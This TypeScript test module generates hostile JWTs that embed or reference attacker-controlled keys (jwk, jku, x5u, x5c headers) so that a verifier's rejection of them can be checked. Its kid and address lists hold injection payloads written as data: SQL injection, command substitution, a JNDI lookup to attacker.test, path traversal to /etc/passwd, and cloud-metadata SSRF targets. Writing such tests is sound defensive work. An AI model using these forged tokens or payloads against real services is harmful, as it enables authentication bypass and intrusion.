import type { KeyObject } from 'node:crypto';
import { each, spelt, tokens } from './case.js';
import type { HostileToken } from './case.js';
import type { Forge } from './forge.js';
import { keyPair, signedWith } from './hostile-issuer.js';

const kids: readonly string[] = [
  ['', ' ', '0', '-1', 'length', 'keys', 'null', 'undefined', 'true', '*', '$ne', '%00', '\0', '\u0000key-1'],
  ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'],
  [
    '/dev/null',
    '../../../../../../dev/null',
    '..\\..\\..\\windows\\win.ini',
    '/proc/self/environ',
    'C:\\nul',
  ],
  ['file:///etc/passwd', 'https://attacker.test/jwks', '//attacker.test/key', 'data:application/json,{}'],
  [
    "' OR '1'='1",
    "' UNION SELECT 'secret' -- ",
    '"; DROP TABLE keys; --',
    '*)(uid=*))(|(uid=*',
    '1; SELECT 1',
  ],
  ['|id', '$(id)', '`id`', '${jndi:ldap://attacker.test/a}', '{{7*7}}', '<script>', '\r\nX-Injected: 1'],
  ['key-hostile ', ' key-hostile', 'KEY-HOSTILE', 'key-hostile\0', 'key-hostile/', 'k\u0435y-hostile'],
  ['key\u2010hostile', 'key-hostil\u0435', 'key%2Dhostile', 'key-hostile,key-1', '\u{1f511}'],
].flat();

const addresses: readonly unknown[] = [
  [
    'https://attacker.test/jwks',
    'http://127.0.0.1/jwks',
    'http://169.254.169.254/latest',
    'file:///etc/passwd',
  ],
  [
    'https://issuer.test@attacker.test/jwks',
    'https://issuer.test.attacker.test/jwks',
    'data:application/json,{}',
  ],
  ['https://issuer.test/redirect?to=https://attacker.test', 'https://issuer.test/../jwks', '', 5, null, []],
].flat();

const crits: readonly unknown[] = [
  [[], ['exp'], ['b64'], ['alg'], ['kid'], ['typ'], ['crit'], ['__proto__'], ['unknown'], [''], [null], [5]],
  [['exp', 'exp'], null, 'exp', '', 0, true, false, {}, { exp: true }],
].flat();

/** Tokens that name or contain the key to verify them with (RFC 8725 §2.8, §3.10; CVE-2018-0114). */
export function injectedKeys(forge: Forge): readonly HostileToken[] {
  const { issuer, header, payload, signed } = forge;
  const { publicKey, privateKey } = keyPair(issuer.algorithm);
  const forged = (changes: Readonly<Record<string, unknown>>): string =>
    signedWith(privateKey, header(changes), payload());
  const jwk = publicKey.export({ format: 'jwk' });
  const invalid = ['signature_invalid'] as const;
  return [
    ...tokens(invalid, {
      'a key of the attacker under the right kid': forged({}),
      'a key of the attacker without a kid': forged({ kid: undefined }),
      ...byName(publicKey, jwk, issuer.kid, forged),
    }),
    ...tokens(['key_unknown'], {
      'a jwk with a kid of its own': forged({ jwk: { ...jwk, kid: 'mine' }, kid: 'mine' }),
      'a jku with a kid of its own': forged({ jku: 'https://attacker.test/jwks', kid: 'mine' }),
      'a kid that is an address': forged({ kid: 'https://attacker.test/jwks' }),
      'a kid of 4,000 characters': signed({}, { kid: 'k'.repeat(4000) }),
    }),
    ...tokens(['algorithm_unsupported'], {
      'a jwk that is a secret': forged({ alg: 'HS256', jwk: { kty: 'oct', k: 'c2VjcmV0' } }),
      'a jwk of another type': forged({ alg: 'Ed25519', jwk: { kty: 'OKP', crv: 'Ed25519', x: 'AA' } }),
    }),
    ...addresses.flatMap((address) =>
      each(['jku', 'x5u'], invalid, (name) => [
        `${name} ${spelt(address)} and a key of the attacker`,
        forged({ [name]: address }),
      ]),
    ),
    ...each(kids, ['key_unknown'], (kid) => [`kid ${spelt(kid)}`, signed({}, { kid })]),
    ...each([0, 1, true, [], {}, [issuer.kid], { kid: issuer.kid }], ['token_malformed'], (kid) => [
      `kid ${spelt(kid)}, which is no text`,
      signed({}, { kid }),
    ]),
    ...each(crits, ['critical_unsupported'], (crit) => [`crit ${spelt(crit)}`, signed({}, { crit })]),
    ...each([true, false, null, 'false'], ['critical_unsupported'], (b64) => [
      `crit b64 with b64 ${spelt(b64)}`,
      signed({}, { crit: ['b64'], b64 }),
    ]),
  ];
}

function byName(
  publicKey: KeyObject,
  jwk: object,
  kid: string,
  forged: (changes: Readonly<Record<string, unknown>>) => string,
): Readonly<Record<string, string>> {
  const der = publicKey.export({ format: 'der', type: 'spki' }).toString('base64');
  return {
    'a jwk of the attacker': forged({ jwk }),
    'a jwk of the attacker without a kid': forged({ jwk, kid: undefined }),
    'a jwk of the attacker with the right kid within': forged({ jwk: { ...jwk, kid } }),
    'a jwk in a list': forged({ jwk: [jwk] }),
    'a jwk as text': forged({ jwk: JSON.stringify(jwk) }),
    'a jwk that is null': forged({ jwk: null }),
    'a whole set as jwks': forged({ jwks: { keys: [{ ...jwk, kid }] } }),
    'a whole set as keys': forged({ keys: [{ ...jwk, kid }] }),
    'a key in an x5c': forged({ x5c: [der] }),
    'an x5c without a certificate': forged({ x5c: [] }),
    'an x5c of junk': forged({ x5c: ['AAAA', 5, null] }),
    'an x5c that is text': forged({ x5c: der }),
    'an x5t': forged({ x5t: 'AAAAAAAAAAAAAAAAAAAAAAAAAAA' }),
    'an x5t#S256': forged({ 'x5t#S256': 'A'.repeat(43) }),
    'an epk': forged({ epk: jwk }),
    'an iss in the header': forged({ iss: 'https://attacker.test' }),
    'everything at once': forged({
      jwk,
      jku: 'https://attacker.test',
      x5u: 'https://attacker.test',
      x5c: [der],
    }),
  };
}
